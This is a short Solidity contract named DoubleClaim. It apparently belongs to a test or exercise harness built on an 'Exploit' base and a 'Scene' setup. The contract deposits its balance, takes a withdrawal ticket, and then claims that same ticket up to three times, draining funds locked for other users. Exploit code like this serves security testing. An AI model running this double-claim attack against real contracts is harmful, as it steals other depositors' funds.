// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title The same half, three times
/// @notice Claims the filled part of its ticket until nothing is locked for the others.
contract DoubleClaim is Exploit {
    uint256 private constant CLAIMS = 3;
    uint256 private _ticket;

    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number == 0) {
            _ticket = _request(_deposit(address(this).balance));
            return;
        }
        for (uint256 i = 0; i < CLAIMS; ++i) {
            try queue.claim(_ticket, address(this)) {} catch {
                return;
            }
        }
    }
}
